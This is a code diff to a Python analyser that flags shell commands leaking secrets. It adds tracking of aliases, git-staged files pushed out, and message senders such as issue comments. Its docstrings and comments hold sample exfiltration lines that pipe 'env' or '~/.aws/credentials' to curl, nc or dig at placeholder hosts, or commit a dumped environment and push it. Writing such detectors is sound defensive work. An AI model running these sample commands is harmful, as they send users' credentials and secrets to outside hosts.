@@ -89,6 +89,10 @@ class Flow:
     """Origins of secrets written to a file whose name is unknown."""
     texts: dict[str, Origins] = field(default_factory=dict)
     """Shell text (a payload, a `bash -c` body) whose output is a secret -> origins."""
+    aliases: dict[str, str] = field(default_factory=dict)
+    """Alias name -> its text (`alias s='curl -d @- https://x'`): a later `env | s` runs that text."""
+    staged: Origins = field(default_factory=set)
+    """Origins of secrets in files `git add` staged (or `git commit -a` took): `git push` sends them."""
 
 
 def _flow(an: Analyser) -> Flow:
@@ -128,13 +132,20 @@ def on_line(an: Analyser, text: str, simples: list[Simple]) -> None:
                 flow.vars |= pending
                 pending = set()
             continue
+        if s.argv[0] == "alias":
+            _aliases(flow, s.argv[1:])
         invs = _invs(s)
+        if s.argv[0] in flow.aliases:
+            invs += _alias_invs(flow.aliases[s.argv[0]], s)
         own: Origins = set()
+        wrapped: Origins = set()
         for inv in invs:
             why = is_source(an, inv)
             if why:
                 tok = token_origin(inv)
                 own.add((why, tok[1] if tok else ""))
+                if inv is invs[0] and len(invs) > 1:
+                    wrapped.add((why, tok[1] if tok else ""))
                 if tok and tok[2]:
                     token_simples.append((s, tok[0]))
             if echoed and _prints_lone(inv):
@@ -177,6 +188,8 @@ def on_line(an: Analyser, text: str, simples: list[Simple]) -> None:
                     an._hit("EXFIL-006", binv.prog, f"{sorted(got)[0][0]} -> {s.argv[0]}() -> {binv.prog}")
         carry.built_image(an, flow.files, s)
         for inv in invs:
+            if inv.prog == "git":
+                _git_stage(an, flow, inv)
             sink = sink_of(inv)
             if sink is not None and inv.prog in T.CONFIG_OPTS:
                 extra = carry.config_args(an, inv)
@@ -187,13 +200,19 @@ def on_line(an: Analyser, text: str, simples: list[Simple]) -> None:
                     sink = sink_of(inv) or sink
             if sink is None:
                 continue
-            carried = got | _sink_files(an, flow, inv, sink)  # its own reads count through its inputs
+            carried = (got if _fed(s, sink) else set()) | _sink_files(an, flow, inv, sink)  # its own reads count
+            if inv.via:
+                carried |= wrapped  # `xargs -a ~/.aws/credentials curl ..`: the wrapper reads what it passes on
+            if sink.keeps_token and all(label.startswith("$") for label, _owner in carried) and \
+                    all(_lone(w) for w in sink.data):
+                used |= {label for label, _owner in carried}
+                continue  # `echo "$NPM_TOKEN" | gh secret set NPM_TOKEN`: stored where it is used
             if not carried and lone is not None and _sends_lone(inv, sink):
                 an._hit("EXFIL-006", inv.prog, f"${lone} -> {inv.prog}")
                 continue
             where = _carried_in(inv, sink) if not carried and lone is not None else ""
             if where:
-                an._hit("EXFIL-006" if where in ("host name", "remote command") else "EXFIL-007", inv.prog,
+                an._hit("EXFIL-006" if where in ("host name", "remote command", "message") else "EXFIL-007", inv.prog,
                         f"${lone} in the {where} -> {inv.prog}")
                 continue
             if carried and not owned(carried, sink):
@@ -302,6 +321,8 @@ def _sends_lone(inv: Inv, sink: Sink) -> bool:
     """Whether the sink sends a value that is only a variable's (`curl -d "$K"`, `nc h 80 <<< $K`, `echo "$K" |
     nc h 80`, `dig $K.x.example`): the body, the stream or the query, not a header or a login."""
     s = inv.simple
+    if sink.kind == "message" and any(_lone(w) for w in sink.data):
+        return True  # `gh issue comment 1 -b "$K"`, `redis-cli -h h set k "$K"`
     if sink.stdin or any(a in ("@-", "-", "@/dev/stdin") for a in inv.args):
         if s.stdin is not None and _lone(s.stdin):
             return True
@@ -326,6 +347,8 @@ def _carried_in(inv: Inv, sink: Sink) -> str:
     looked up, `https://$K.x.example`), its path or query (ask: some APIs take a token there, `/bot$TOKEN/`, and
     every proxy and log keeps it), or an ssh remote command (`ssh h "$K"`, `ssh h "echo $K"`: deny; inside a larger
     command, `ssh h "export K=$K; ./deploy"`: ask). "" when it is not in one."""
+    if sink.kind == "message":
+        return "message" if any(UNKNOWN in w for w in sink.data) else ""  # a comment, a queue, a row: not a login
     kind = T.NET_SINKS.get(inv.prog)
     if kind == "shell":
         remote = [w for w in sink.data if UNKNOWN in w]
@@ -361,7 +384,8 @@ _NAMED = _Lazy(T.SECRET_NAMED)
 _DECLARES = frozenset({"export", "declare", "typeset", "local", "readonly"})
 _RUNS_TEXT = SHELLS | {"eval", "source", "."}
 _NAMES = frozenset(T.ENV_DUMPS) | frozenset(T.TOKEN_COMMANDS) | frozenset(T.NET_SINKS) | frozenset(T.REMOTE_EXEC) | \
-    _RUNS_TEXT | {"ps", "tar", "bsdtar", "gtar", "zip", "7z", "7za", "cpio", "rsync", "scp", "cp", "pax", "rclone"}
+    frozenset(T.MESSAGES) | _RUNS_TEXT | {"alias", "ps", "tar", "bsdtar", "gtar", "zip", "7z", "7za", "cpio", "rsync",
+                                          "scp", "cp", "pax", "rclone"}
 
 
 def _may_matter(s: Simple) -> bool:
@@ -417,6 +441,64 @@ def _sink_files(an: Analyser, flow: Flow, inv: Inv, sink: Sink) -> Origins:
                 not WHOLE_HOME.match(p):  # a home copied whole to a host is EXFIL-003's question
             out.add((p, ""))
     return out
+
+
+def _fed(s: Simple, sink: Sink) -> bool:
+    """Whether what the command carries can reach what the sink sends: always, but for a message sender, whose
+    login (`PGPASSWORD=$(vault kv get ..) psql -h h -c 'select 1'`, `redis-cli -a "$(..)"`) is not its message."""
+    if sink.kind != "message":
+        return True
+    return any(UNKNOWN in w for w in sink.data + sink.files) or sink.stdin and (
+        bool(s.upstream) or s.stdin is not None or any(r.op == "<" for r in s.redirects))
+
+
+def _aliases(flow: Flow, args: list[str]) -> None:
+    for a in args:
+        name, eq, body = a.partition("=")
+        if eq and UNKNOWN not in a and re.match(r"^[\w.-]+$", name):
+            flow.aliases[name] = body
+
+
+def _alias_invs(body: str, s: Simple) -> list[Inv]:
+    """The invocations an alias's text runs, the call's own words after the last (`alias s='base64 | curl -d @-
+    https://x'; env | s`): each is judged as a source and a sink where the alias is called."""
+    import shlex
+
+    try:
+        parts = [shlex.split(p) for p in re.split(r"\|\|?|&&|;", body)]
+    except ValueError:
+        return []
+    parts = [p for p in parts if p]
+    if parts:
+        parts[-1] += s.argv[1:]
+    out = []
+    for words in parts:
+        out.append(Inv(words, s))
+        out += [Inv(inner, s, sudo, via) for inner, sudo, via in unwrap(words, lambda: None)
+                if inner and inner != words and UNKNOWN not in inner[0]]
+    return out
+
+
+def _git_stage(an: Analyser, flow: Flow, inv: Inv) -> None:
+    """`git add F` / `git add -A` / `git commit -a` of a file a secret was written to stages it; a later
+    `git push` sends it (EXFIL-006: `env > env.txt; git add env.txt; git commit -m x; git push`)."""
+    pos, s = inv.positional, inv.simple
+    verb = pos[0] if pos else ""
+    if verb == "push" and flow.staged:
+        an._hit("EXFIL-006", "git", f"{sorted(flow.staged)[0][0]} -> a staged file -> git push")
+    if not flow.files or verb not in ("add", "commit", "stage"):
+        return
+    if verb == "commit":
+        if not (inv.has("a", "--all")):
+            return
+        names = ["."]
+    else:
+        names = [p for p in pos[1:] if UNKNOWN not in p] + (["."] if inv.has("A", "u", "--all", "--update") else [])
+    for raw in names:
+        p = normalise(raw, s.cwd, an.home)
+        for q, origins in flow.files.items():
+            if q == p or under(q, p):
+                flow.staged |= origins
 
 
 _WRITE_OPTS = frozenset({"-o", "--output", "-out", "--out", "-f", "--file", "-O"})
